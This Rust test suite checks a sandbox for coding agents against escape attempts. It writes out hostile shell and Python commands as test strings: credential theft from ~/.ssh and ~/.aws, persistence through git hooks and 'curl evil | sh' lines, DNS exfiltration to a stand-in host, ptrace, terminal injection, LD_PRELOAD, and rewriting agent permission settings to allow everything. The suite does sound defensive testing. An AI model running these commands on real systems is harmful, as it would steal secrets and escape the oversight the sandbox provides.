//! The escape suite: each test is one attack run inside the real bubblewrap
//! sandbox against a throwaway world (tempdir: fake HOME with planted fake
//! secrets, a git worktree, a sibling dir), asserting the attack FAILED and
//! that a control version of the same action SUCCEEDED where it should — so
//! each test fails if its protection is removed, and cannot pass merely
//! because the sandbox is broken.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers outside #[test] fns

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;
use paddock_sandbox::{Manifest, Network};

// ---------------------------------------------------------------- secrets

#[test]
fn read_ssh_key_outside_worktree() {
    let w = World::new();
    let key = w.home.join(".ssh/id_ed25519");
    let out = w.sh(&format!(
        "cat '{}' && echo attack=read || echo attack=denied; cat README.md >/dev/null && echo control=ok",
        key.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_ssh_key_when_home_is_granted_read_only() {
    // Even when the whole (fake) HOME is granted, ~/.ssh stays masked.
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "cat '{h}/.ssh/id_ed25519' && echo attack=read || echo attack=denied; ls -A '{h}/.ssh' | wc -l | sed 's/^/entries=/'; \
         cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_aws_credentials_when_home_is_granted() {
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "cat '{h}/.aws/credentials' && echo attack=read || echo attack=denied; cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_cloud_and_container_configs_when_home_is_granted() {
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "n=0; for f in .config/gcloud/credentials.db .kube/config .docker/config.json .gnupg/private-keys-v1.d/key \
         .mozilla/firefox/profile/cookies.sqlite; do cat \"{h}/$f\" 2>/dev/null && n=$((n+1)); done; echo leaked=$n; \
         cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "leaked"), "0");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_netrc_file_masked() {
    let w = World::new();
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.sh_in(&m, &format!(
        "c=$(cat '{h}/.netrc'); echo bytes=${{#c}}; cat '{h}/notes.txt' >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "bytes"), "0");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn read_dotenv_outside_worktree() {
    let w = World::new();
    let out = w.sh(&format!(
        "cat '{o}/.env' && echo attack=read || echo attack=denied; cat .bashrc >/dev/null && echo control=ok",
        o = w.outside.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn granting_a_never_visible_path_is_refused() {
    let w = World::new();
    let err = w
        .manifest()
        .read_only(w.home.join(".ssh"))
        .build()
        .unwrap_err();
    assert!(err.to_string().contains("never-visible"), "{err}");
    assert!(
        w.manifest()
            .read_only(w.home.join("notes.txt"))
            .build()
            .is_ok(),
        "control: a normal path is accepted"
    );
}

#[test]
fn host_environment_secrets_are_not_inherited() {
    let w = World::new();
    let m = w.manifest().build().unwrap();
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("LANG".into(), "C.UTF-8".into()),
        ("AWS_SECRET_ACCESS_KEY".into(), SECRET.into()),
        ("ANTHROPIC_API_KEY".into(), SECRET.into()),
        ("GITHUB_TOKEN".into(), SECRET.into()),
    ];
    let out = w.run_with(&m, &["/bin/sh", "-c", "env; echo lang=$LANG"], host_env);
    assert_no_secret(&out);
    assert_eq!(
        field(&out, "lang"),
        "C.UTF-8",
        "control: allowlisted LANG passes"
    );
}

// ---------------------------------------------------------------- writes

#[test]
fn write_outside_worktree() {
    let w = World::new();
    let out = w.sh(&format!(
        "echo x > '{o}/pwned' && echo attack=wrote || echo attack=denied; echo ok > written.txt && echo control=ok",
        o = w.outside.display()
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert!(!w.outside.join("pwned").exists());
    assert_eq!(field(&out, "control"), "ok");
    assert_eq!(
        fs::read_to_string(w.worktree.join("written.txt")).unwrap(),
        "ok\n",
        "control write reached the host"
    );
}

#[test]
fn write_system_directories_and_root() {
    let w = World::new();
    let out = w.sh(
        "n=0; for p in /usr/pwned /etc/pwned /pwned /bin/pwned /opt/pwned; do (echo x > $p) 2>/dev/null && n=$((n+1)); done; \
         echo wrote=$n; echo x > /tmp/ok && echo x > $HOME/ok && echo control=ok",
    );
    assert_eq!(field(&out, "wrote"), "0");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_etc_ld_so_preload() {
    // A persistent LD_PRELOAD for every later process on the host.
    let w = World::new();
    let out = w.sh(
        "echo /tmp/evil.so >> /etc/ld.so.preload && echo attack=wrote || echo attack=denied; \
                   test -r /etc/passwd && echo control=ok",
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn symlink_escape_created_inside() {
    let w = World::new();
    let out = w.sh(&format!(
        "ln -s '{h}/.ssh/id_ed25519' stolen && cat stolen && echo attack=read || echo attack=denied; \
         ln -s README.md link && cat link >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn symlink_escape_preplanted_in_repo() {
    // A malicious repo ships a symlink to the user's secrets.
    let w = World::new();
    std::os::unix::fs::symlink(w.home.join(".aws/credentials"), w.worktree.join("creds")).unwrap();
    std::os::unix::fs::symlink(w.outside.join("data.txt"), w.worktree.join("data")).unwrap();
    let out = w.sh("cat creds && echo attack=read || echo attack=denied; cat data && echo followed=yes || echo followed=no; \
                   cat README.md >/dev/null && echo control=ok");
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "followed"), "no");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn hardlink_escape_to_secret() {
    let w = World::new();
    let out = w.sh(&format!(
        "ln '{h}/.ssh/id_ed25519' stolen && cat stolen && echo attack=read || echo attack=denied; \
         ln README.md hard && cat hard >/dev/null && echo control=ok",
        h = w.home.display()
    ));
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn hardlink_to_protected_git_config_then_write() {
    let w = World::new();
    let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    let out = w.sh("ln .git/config cfg && echo '[core] hooksPath = /tmp' >> cfg && echo attack=wrote || echo attack=denied; \
                   ln src/main.rs m && echo '// ok' >> m && echo control=ok");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
        before
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn dotdot_traversal() {
    let w = World::new();
    let out = w.sh("cat ../home/.ssh/id_ed25519 && echo attack=read || echo attack=denied; \
                   cat ../outside/data.txt && echo sibling=read || echo sibling=denied; \
                   ls -A .. | tr '\\n' ' ' | sed 's/^/listing=/'; echo; cat ../worktree/README.md >/dev/null && echo control=ok");
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "sibling"), "denied");
    assert_eq!(
        field(&out, "listing").trim(),
        "worktree",
        "only the worktree exists above it"
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn replace_protected_path_with_symlink() {
    let w = World::new();
    let out = w.sh(
        "mv .git/hooks .git/hooks.old && echo mv=yes || echo mv=no; rm -rf .git/hooks; \
                   ln -sfn /tmp .git/hooks && echo attack=replaced || echo attack=denied; \
                   mkdir -p plain && mv plain plain.old && ln -s /tmp plain && echo control=ok",
    );
    assert_eq!(field(&out, "mv"), "no");
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        w.worktree.join(".git/hooks/pre-commit").is_file(),
        "hooks survived on the host"
    );
    assert!(
        !fs::symlink_metadata(w.worktree.join(".git/hooks"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_git_hook() {
    let w = World::new();
    let out = w.sh("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/post-checkout && echo new=wrote || echo new=denied; \
                   echo 'curl evil' >> .git/hooks/pre-commit && echo append=wrote || echo append=denied; \
                   echo ok > src/new.rs && echo control=ok");
    assert_eq!(field(&out, "new"), "denied");
    assert_eq!(field(&out, "append"), "denied");
    assert!(!w.worktree.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_git_config_core_hookspath() {
    let w = World::new();
    let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    let out = w.sh(
        "git config core.hooksPath /tmp/evil-hooks && echo attack=set || echo attack=denied; \
                   git status --short >/dev/null && echo control=ok",
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
        before
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn write_git_config_core_fsmonitor() {
    let w = World::new();
    let before = fs::read_to_string(w.worktree.join(".git/config")).unwrap();
    let out = w.sh("git config core.fsmonitor 'sh -c \"curl evil\"' && echo attack=set || echo attack=denied; \
                   printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config && echo clobber=yes || echo clobber=no; \
                   git add README.md && echo control=ok");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "clobber"), "no");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".git/config")).unwrap(),
        before
    );
    assert_eq!(
        field(&out, "control"),
        "ok",
        "git still works in the worktree"
    );
}

#[test]
fn shell_rc_persistence_in_worktree() {
    let w = World::new();
    let out = w.sh(
        "echo 'curl evil | sh' >> .bashrc && echo attack=wrote || echo attack=denied; \
                   echo 'x' >> README.md && echo control=ok",
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".bashrc")).unwrap(),
        "# project bashrc\n"
    );
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn shell_rc_persistence_in_home() {
    // The private HOME is writable but ephemeral and not the host's.
    let w = World::new();
    let out = w.sh("echo 'curl evil | sh' >> ~/.bashrc && echo control=ok");
    assert_eq!(field(&out, "control"), "ok");
    assert_eq!(
        fs::read_to_string(w.home.join(".bashrc")).unwrap(),
        "# host bashrc\n"
    );
    let again = w.sh("test -e ~/.bashrc && echo persisted=yes || echo persisted=no");
    assert_eq!(field(&again, "persisted"), "no");
}

#[test]
fn agent_config_dir_write() {
    let w = World::new();
    let out = w.sh("echo '{\"permissions\":{\"allow\":[\"*\"]}}' > .claude/settings.json && echo attack=wrote || echo attack=denied; \
                   cat .claude/settings.json >/dev/null && echo control=ok");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        fs::read_to_string(w.worktree.join(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert_eq!(field(&out, "control"), "ok", "agent config stays readable");
}

// ---------------------------------------------------------------- processes

#[test]
fn proc_parent_environ() {
    // A host process holding a secret in its environment (like the engine).
    let w = World::new();
    let mut holder = Command::new("sleep")
        .arg("300")
        .env("HOLDER_TOKEN", SECRET)
        .spawn()
        .unwrap();
    let out = w.sh(&format!(
        "cat /proc/{pid}/environ && echo attack=read || echo attack=denied; cat /proc/$PPID/environ /proc/1/environ 2>/dev/null; \
         for f in /proc/[0-9]*/environ; do cat $f 2>/dev/null; done; echo; \
         cat /proc/self/environ | tr '\\0' '\\n' | grep -c '^HOME=' | sed 's/^/control=/'",
        pid = holder.id()
    ));
    holder.kill().unwrap();
    holder.wait().unwrap();
    assert_no_secret(&out);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "1");
}

#[test]
fn proc_1_mem() {
    let w = World::new();
    let out = w.py("import os\n\
try:\n    f=open('/proc/1/mem','rb'); f.seek(0x400000); f.read(16); print('attack=read')\n\
except OSError as e: print('attack=denied')\n\
print('control=' + open('/proc/1/status').readline().split()[0])\n");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "Name:");
}

#[test]
fn ptrace_attach() {
    let w = World::new();
    let out = w.py("import ctypes, os, subprocess\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
p=subprocess.Popen(['sleep','30'])\n\
r=libc.ptrace(16, p.pid, 0, 0)  # PTRACE_ATTACH\n\
print('attack=' + ('attached' if r==0 else 'denied'))\n\
print('errno=%d' % ctypes.get_errno())\n\
os.kill(p.pid, 9); p.wait(); print('control=killed' if p.returncode==-9 else 'control=no')\n");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "errno"), "1", "EPERM from seccomp");
    assert_eq!(
        field(&out, "control"),
        "killed",
        "the target process existed and was reachable by signal"
    );
}

#[test]
fn process_vm_readv_cross_process() {
    let w = World::new();
    let out = w.py("import ctypes, subprocess\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
p=subprocess.Popen(['sleep','30'])\n\
buf=ctypes.create_string_buffer(8)\n\
class iov(ctypes.Structure): _fields_=[('b',ctypes.c_void_p),('l',ctypes.c_size_t)]\n\
l=iov(ctypes.addressof(buf),8); r=iov(0x400000,8)\n\
n=libc.process_vm_readv(p.pid, ctypes.byref(l),1, ctypes.byref(r),1,0)\n\
print('errno=%d' % ctypes.get_errno()); p.kill(); print('control=%d' % libc.getpid())\n");
    assert_eq!(field(&out, "errno"), "1", "EPERM (seccomp), not EFAULT");
    assert!(field(&out, "control").parse::<u32>().unwrap() > 0);
}

#[test]
fn tiocsti_into_parent_terminal() {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    let w = World::new();
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let slave_path = ptsname(&master, Vec::new()).unwrap();
    let slave = fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(slave_path.to_str().unwrap())
        .unwrap();
    let argv: Vec<std::ffi::OsString> = vec![
        "/usr/bin/python3".into(),
        "-c".into(),
        "import fcntl, termios, os\n\
try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'X'); print('attack=injected')\n\
except OSError as e: print('attack=denied')\n\
try:\n    os.open('/dev/tty', os.O_RDWR); print('ctty=yes')\n\
except OSError: print('ctty=no')\n"
            .into(),
    ];
    let m = w.manifest().build().unwrap();
    let mut cmd = backend()
        .command_with_host_env(&m, &argv, vec![("PATH".into(), "/usr/bin:/bin".into())])
        .unwrap();
    cmd.stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave))
        .stderr(Stdio::piped());
    let status = cmd.spawn().unwrap().wait().unwrap();
    assert!(status.success());
    let mut master = fs::File::from(master);
    let mut buf = vec![0u8; 4096];
    let n = master.read(&mut buf).unwrap();
    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
    assert!(
        text.contains("attack=denied"),
        "control: output reached the terminal, and TIOCSTI failed: {text}"
    );
    assert!(
        text.contains("ctty=no"),
        "no controlling terminal (new session): {text}"
    );
    // Nothing was pushed into the terminal's input queue.
    rustix::io::ioctl_fionbio(&master, true).unwrap();
    let pending = rustix::termios::tcgetattr(&master).is_ok();
    assert!(pending);
    let mut rest = [0u8; 64];
    let injected = master
        .read(&mut rest)
        .map(|n| String::from_utf8_lossy(&rest[..n]).contains('X'))
        .unwrap_or(false);
    assert!(!injected);
}

#[test]
fn umount_proc_and_mount() {
    let w = World::new();
    let out = w.sh(
        "umount /proc 2>/dev/null && echo umount=yes || echo umount=no; \
                   umount -l /proc 2>/dev/null && echo lazy=yes || echo lazy=no; \
                   mount -t tmpfs none /tmp 2>/dev/null && echo mount=yes || echo mount=no; \
                   head -1 /proc/self/status | cut -f1 | sed 's/^/control=/'",
    );
    assert_eq!(field(&out, "umount"), "no");
    assert_eq!(field(&out, "lazy"), "no");
    assert_eq!(field(&out, "mount"), "no");
    assert_eq!(field(&out, "control"), "Name:");
}

#[test]
fn capabilities_and_no_new_privs() {
    let w = World::new();
    let out = w.sh("grep -E '^(CapEff|CapPrm|CapBnd|CapAmb|NoNewPrivs|Seccomp|Uid):' /proc/self/status | tr -d '\\t ' | tr ':' '='");
    for cap in ["CapEff", "CapPrm", "CapBnd", "CapAmb"] {
        assert_eq!(field(&out, cap), "0000000000000000", "{cap}");
    }
    assert_eq!(field(&out, "NoNewPrivs"), "1");
    assert_eq!(field(&out, "Seccomp"), "2", "a seccomp filter is active");
    assert_eq!(field(&out, "Uid"), "1000100010001000", "uid 1000, not root");
}

#[test]
fn setuid_binary_does_not_elevate() {
    let w = World::new();
    // A setuid-root copy of `id`, made on the host in the throwaway dir.
    let suid = w.worktree.join("suid-id");
    fs::copy("/usr/bin/id", &suid).unwrap();
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).unwrap();
    let out = w.sh("echo euid=$(./suid-id -u); echo control=$(/usr/bin/id -u); /usr/bin/su -c true root </dev/null 2>/dev/null && echo su=yes || echo su=no");
    assert_eq!(field(&out, "euid"), "1000");
    assert_eq!(field(&out, "control"), "1000");
    assert_eq!(field(&out, "su"), "no");
}

#[test]
fn new_user_namespace() {
    let w = World::new();
    let out = w.sh("unshare -U -r id -u 2>/dev/null && echo attack=created || echo attack=denied; \
                   unshare --net true 2>/dev/null && echo net=created || echo net=denied; echo control=$(id -u)");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "net"), "denied");
    assert_eq!(field(&out, "control"), "1000");
}

#[test]
fn kill_process_outside_sandbox() {
    let w = World::new();
    let mut sleeper = Command::new("sleep").arg("300").spawn().unwrap();
    let out = w.sh(&format!(
        "kill -9 {pid} 2>/dev/null && echo attack=killed || echo attack=denied; kill -9 -1 2>/dev/null; \
         sleep 30 & p=$!; kill -9 $p && echo control=ok",
        pid = sleeper.id()
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
    assert!(
        sleeper.try_wait().unwrap().is_none(),
        "the host process survived"
    );
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();
}

#[test]
fn keyring_syscalls() {
    let w = World::new();
    let out = w.sh("keyctl show @s >/dev/null 2>&1 && echo show=yes || echo show=no; \
                   keyctl add user paddock-test secret @s >/dev/null 2>&1 && echo add=yes || echo add=no; echo control=$(id -u)");
    assert_eq!(field(&out, "show"), "no");
    assert_eq!(field(&out, "add"), "no");
    assert_eq!(field(&out, "control"), "1000");
}

#[test]
fn io_uring_setup() {
    let w = World::new();
    let out = w.py("import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
params=ctypes.create_string_buffer(120)\n\
r=libc.syscall(425, 8, params)  # io_uring_setup\n\
print('attack=' + ('created' if r>=0 else 'denied')); print('errno=%d' % ctypes.get_errno())\n\
print('control=' + ('ok' if libc.syscall(39) > 0 else 'no'))  # getpid\n");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "errno"), "1");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn x32_abi_syscall_bypass() {
    // socket(AF_UNIX) through the x32 table would dodge a per-number rule.
    let w = World::new();
    let out = w.py("import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
r=libc.syscall(0x40000000 | 41, 1, 1, 0)\n\
print('attack=' + ('created' if r>=0 else 'denied'))\n\
print('control=' + ('ok' if libc.syscall(41, 2, 1, 0) >= 0 else 'no'))  # AF_INET socket is fine\n");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}

// ---------------------------------------------------------------- sockets

fn connect_unix_py(path: &std::path::Path) -> String {
    format!(
        "import socket\n\
try:\n    s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('attack=connected', s.recv(64))\n\
except OSError as e: print('attack=denied')\n",
        path.display()
    )
}

fn serve_unix(path: &std::path::Path) -> UnixListener {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let listener = UnixListener::bind(path).unwrap();
    listener.set_nonblocking(true).unwrap();
    listener
}

#[test]
fn docker_socket_masked() {
    let w = World::new();
    let sock = w.home.join(".docker/run/docker.sock");
    let _listener = serve_unix(&sock);
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.py_in(
        &m,
        &format!(
            "{}\nprint('control=' + open('{}/notes.txt').read().strip())",
            connect_unix_py(&sock),
            w.home.display()
        ),
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "public notes");
    assert!(
        std::os::unix::net::UnixStream::connect(&sock).is_ok(),
        "control: the socket is live on the host"
    );
}

#[test]
fn unix_socket_visible_in_worktree_blocked_by_seccomp() {
    let w = World::new();
    let sock = w.worktree.join("agent.sock");
    let listener = serve_unix(&sock);
    let out = w.py(&connect_unix_py(&sock));
    assert_eq!(field(&out, "attack"), "denied");
    // Control: granting the socket makes the same connection work.
    listener.set_nonblocking(false).unwrap();
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        s.write_all(b"hello").unwrap();
    });
    let granted = w.manifest().unix_socket(&sock).build().unwrap();
    let out = w.py_in(&granted, &connect_unix_py(&sock));
    assert_eq!(
        field(&out, "attack").split_whitespace().next(),
        Some("connected")
    );
    server.join().unwrap();
}

#[test]
fn ssh_agent_socket_unreachable() {
    let w = World::new();
    let sock = w.home.join(".ssh/agent.sock");
    let _listener = serve_unix(&sock);
    let m = w.manifest().build().unwrap();
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("SSH_AUTH_SOCK".into(), sock.clone().into()),
    ];
    let out = w.run_with(
        &m,
        &[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import os\nprint('var=' + os.environ.get('SSH_AUTH_SOCK', 'unset'))\n{}",
                connect_unix_py(&sock)
            ),
        ],
        host_env,
    );
    assert_eq!(field(&out, "var"), "unset");
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        std::os::unix::net::UnixStream::connect(&sock).is_ok(),
        "control: the agent socket is live on the host"
    );
}

#[test]
fn dbus_abstract_socket_unreachable() {
    // D-Bus and X11 listen on abstract sockets too: reachable from any process
    // in the same network namespace, regardless of the filesystem.
    let w = World::new();
    let name = format!("paddock-test-dbus-{}", std::process::id());
    let py_listen = format!(
        "import socket,time\ns=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); s.listen(); print('up', flush=True); time.sleep(60)"
    );
    let mut host = Command::new("python3")
        .args(["-c", &py_listen])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = [0u8; 3];
    host.stdout.as_mut().unwrap().read_exact(&mut line).unwrap();
    let connect = format!(
        "import socket\ntry:\n    s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('attack=connected')\nexcept OSError: print('attack=denied')\n"
    );
    let control = Command::new("python3")
        .args(["-c", &connect])
        .output()
        .unwrap();
    let out = w.py(&connect);
    host.kill().unwrap();
    host.wait().unwrap();
    assert_eq!(
        field(&control, "attack"),
        "connected",
        "control: reachable from the host"
    );
    assert_eq!(field(&out, "attack"), "denied");
}

// ---------------------------------------------------------------- network

fn host_tcp_listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

#[test]
fn direct_ip_egress_ignoring_proxy() {
    let w = World::new();
    let (listener, port) = host_tcp_listener();
    let out = w.sh(&format!(
        "curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
         curl -sS --noproxy '*' --max-time 5 http://10.0.0.1/ 2>/dev/null && echo lan=connected || echo lan=denied; \
         echo control=$(cat README.md)"
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "lan"), "denied");
    assert_eq!(field(&out, "control"), "worktree readme");
    assert!(
        TcpStream::connect(("127.0.0.1", port)).is_ok(),
        "control: the host listener is up"
    );
    drop(listener);
}

#[test]
fn dev_tcp_bash_redirection() {
    let w = World::new();
    let (listener, port) = host_tcp_listener();
    let out = w.run_with(&w.manifest().build().unwrap(), &["/bin/bash", "-c", &format!(
        "(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo attack=connected || echo attack=denied; \
         nc_ok=$( (exec 3<>/dev/tcp/127.0.0.1/1) 2>&1 ); echo control=$([ -n \"$nc_ok\" ] && echo bash-tried)")],
        vec![("PATH".into(), "/usr/bin:/bin".into())]);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        field(&out, "control"),
        "bash-tried",
        "bash supports /dev/tcp and reported the failure"
    );
    assert!(TcpStream::connect(("127.0.0.1", port)).is_ok());
    drop(listener);
}

#[test]
fn dns_exfiltration() {
    let w = World::new();
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let port = resolver.local_addr().unwrap().port();
    let out = w.py(&format!("import socket\n\
try:\n    socket.getaddrinfo('{SECRET}.exfil.example.com', 80); print('lookup=resolved')\n\
except OSError: print('lookup=failed')\n\
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
for dst in [('8.8.8.8',53), ('127.0.0.1',{port})]:\n    try: s.sendto(b'{SECRET}', dst)\n    except OSError: pass\n\
print('control=sent')\n"));
    assert_eq!(field(&out, "lookup"), "failed");
    assert_eq!(field(&out, "control"), "sent");
    let mut buf = [0u8; 64];
    assert!(
        resolver.recv_from(&mut buf).is_err(),
        "nothing reached the host's loopback resolver"
    );
    // Control: the host resolver socket does receive when sent to from the host.
    UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .send_to(b"ping", ("127.0.0.1", port))
        .unwrap();
    assert!(resolver.recv_from(&mut buf).is_ok());
}

#[test]
fn raw_icmp_and_udp() {
    let w = World::new();
    let out = w.py("import socket\n\
try:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('raw=created')\n\
except OSError: print('raw=denied')\n\
try:\n    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('packet=created')\n\
except OSError: print('packet=denied')\n\
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
try:\n    s.sendto(b'x', ('1.1.1.1', 9)); print('udp=sent')\n\
except OSError: print('udp=unreachable')\n\
l=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); l.bind(('127.0.0.1',0)); s.sendto(b'y', l.getsockname())\n\
print('control=' + l.recv(8).decode())\n");
    assert_eq!(field(&out, "raw"), "denied");
    assert_eq!(field(&out, "packet"), "denied");
    assert_eq!(field(&out, "udp"), "unreachable");
    assert_eq!(
        field(&out, "control"),
        "y",
        "loopback inside the sandbox works"
    );
}

#[test]
fn bind_port_to_reach_host_services() {
    let w = World::new();
    let (listener, port) = host_tcp_listener();
    let out = w.py(&format!(
        "import socket\n\
c=socket.socket()\n\
try:\n    c.connect(('127.0.0.1',{port})); print('attack=connected')\n\
except OSError: print('attack=refused')\n\
l=socket.socket(); l.bind(('127.0.0.1',{port})); l.listen(); print('bound=own')\n\
c2=socket.create_connection(('127.0.0.1',{port})); a,_=l.accept(); print('control=loopback-own')\n"
    ));
    assert_eq!(field(&out, "attack"), "refused");
    assert_eq!(
        field(&out, "bound"),
        "own",
        "the same port is free inside: a separate loopback"
    );
    assert_eq!(field(&out, "control"), "loopback-own");
    assert!(TcpStream::connect(("127.0.0.1", port)).is_ok());
    drop(listener);
}

// ---------------------------------------------------------------- injection

#[test]
fn ld_preload_injection_from_host_env() {
    let w = World::new();
    let m = w.manifest().allow_env("*").build().unwrap(); // even a permissive allowlist
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("LD_PRELOAD".into(), "/nonexistent/evil.so".into()),
        ("LD_LIBRARY_PATH".into(), "/nonexistent".into()),
    ];
    let out = w.run_with(&m, &["/bin/sh", "-c",
        "echo preload=${LD_PRELOAD:-unset}; echo libpath=${LD_LIBRARY_PATH:-unset}; LD_PRELOAD=/nonexistent/evil.so /bin/true"], host_env);
    assert_eq!(field(&out, "preload"), "unset");
    assert_eq!(field(&out, "libpath"), "unset");
    // Control: the loader does complain when LD_PRELOAD is set (inside, by hand).
    assert_eq!(
        stderr(&out).matches("cannot be preloaded").count(),
        1,
        "stderr: {}",
        stderr(&out)
    );
    assert!(
        Manifest::builder()
            .set_env("LD_PRELOAD", "/x.so")
            .build()
            .is_err(),
        "setting it explicitly is refused"
    );
}

#[test]
fn interpreter_startup_injection_from_host_env() {
    let w = World::new();
    let evil = w.worktree.join("evil.sh");
    fs::write(&evil, "echo INJECTED\n").unwrap();
    let m = w.manifest().allow_env("*").build().unwrap();
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
